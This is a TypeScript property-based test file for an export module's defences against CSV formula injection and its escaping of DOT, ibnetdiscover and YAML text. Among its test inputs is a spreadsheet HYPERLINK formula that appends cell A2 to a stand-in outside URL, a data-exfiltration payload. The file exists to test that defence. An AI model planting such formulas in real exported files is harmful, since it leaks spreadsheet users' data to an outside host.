import fc from 'fast-check';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseYaml } from 'yaml';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, csvText, neutraliseFormulaText, restoreFormulaText } from '../../src/export/csv';
import { dotText, ibnetdiscoverText, oneLine, yamlQuoted } from '../../src/export/escape';
import { graphvizRead } from './grammars';
import { hostileText } from './hostile';

const anyText = fc.oneof(hostileText, fc.string({ unit: 'binary', maxLength: 30 }), fc.string({ unit: 'grapheme', maxLength: 30 }));
const wellFormed = (s: string) => s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');

describe('CSV cells', () => {
  it('prefixes a quote to text starting with = + - @ tab or CR, and quotes the cell', () => {
    expect(csvText('=1+1')).toBe(`"'=1+1"`);
    expect(csvText('+1')).toBe(`"'+1"`);
    expect(csvText('-2+3')).toBe(`"'-2+3"`);
    expect(csvText('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
    expect(csvText('\t=1')).toBe(`"'\t=1"`);
    expect(csvText('\r=1')).toBe(`"'\r=1"`);
    expect(csvText('=HYPERLINK("http://x.example/?"&A2,"Click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A2,""Click"")"`);
  });

  it('leaves ordinary text and computed numbers alone, negative numbers included', () => {
    expect(csvText('QM9700')).toBe('QM9700');
    expect(csvText("it's")).toBe("it's");
    expect(csvText('a-b=c')).toBe('a-b=c');
    expect(csvCell(-1250.5)).toBe('-1250.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvRow(['x', -3, 'a,b'])).toBe('x,-3,"a,b"\r\n');
  });

  it('adds one more quote to text that already starts with quotes before a formula character, so restoring is exact', () => {
    expect(neutraliseFormulaText("'=1")).toBe("''=1");
    expect(restoreFormulaText("''=1")).toBe("'=1");
    expect(restoreFormulaText("'plain")).toBe("'plain");
    fc.assert(fc.property(anyText, (t) => restoreFormulaText(neutraliseFormulaText(t)) === t), { numRuns: 300 });
  });

  it('parses back (csv-parse) to the neutralised text in one cell, never starting with a formula character', () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 4 }), (cells) => {
        const rows = parseCsv(csvRow([...cells, 1]) + csvRow(['end', 2]), { relax_column_count: true }) as string[][];
        expect(rows).toEqual([[...cells.map((c) => wellFormed(neutraliseFormulaText(c))), '1'], ['end', '2']]);
        for (const cell of rows[0]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 200 },
    );
  });
});

describe('line-format text', () => {
  it('keeps text on one line: breaks and tabs become spaces, other controls a visible mark', () => {
    expect(oneLine('a\nb\r\nc\td\u2028e\u2029f\x85g')).toBe('a b  c d e f g');
    expect(oneLine('\x1b[31mred\x1b[0m\0\x7f\x9b')).toBe('\ufffd[31mred\ufffd[0m\ufffd\ufffd\ufffd');
    expect(oneLine('\ud800x')).toBe('\ufffdx');
    fc.assert(fc.property(anyText, (t) => !/[\x00-\x1f\x7f-\x9f\u2028\u2029]/.test(oneLine(t))), { numRuns: 300 });
  });

  it('escapes DOT text so a trailing backslash, a quote or an entity stays text', () => {
    expect(dotText('QM9700\\')).toBe('QM9700\\\\');
    expect(dotText('say "hi"')).toBe('say \\"hi\\"');
    expect(dotText('a\\nb & c')).toBe('a\\\\nb &amp; c');
    const labels = ['QM9700\\', '"', '\\"', 'x\\N\\G\\l', '&lt;b&gt; &#65;', 'end\\\\'];
    const g = graphvizRead(`graph { ${labels.map((l, i) => `n${i} [label="${dotText(l)}"];`).join(' ')} }`);
    expect(labels.map((_, i) => g.nodes.get(`n${i}`)!.label)).toEqual(labels.map((l) => [l]));
  });

  it('turns a double quote into an apostrophe in ibnetdiscover text (the format has no escape)', () => {
    expect(ibnetdiscoverText('QM9700 "rev\nB"')).toBe("QM9700 'rev B'");
  });

  it('writes YAML double-quoted scalars that the yaml library reads back exactly, in block and flow context', () => {
    fc.assert(
      fc.property(anyText, (t) => {
        const q = yamlQuoted(t);
        expect(q).not.toMatch(/[\n\r\u2028\u2029\x85]/);
        const doc = parseYaml(`a: ${q}\nb: { c: ${q}, d: [${q}] }\nk:\n  ${q}: 1\n`);
        expect(doc).toEqual({ a: wellFormed(t), b: { c: wellFormed(t), d: [wellFormed(t)] }, k: { [wellFormed(t)]: 1 } });
      }),
      { numRuns: 300 },
    );
  });
});
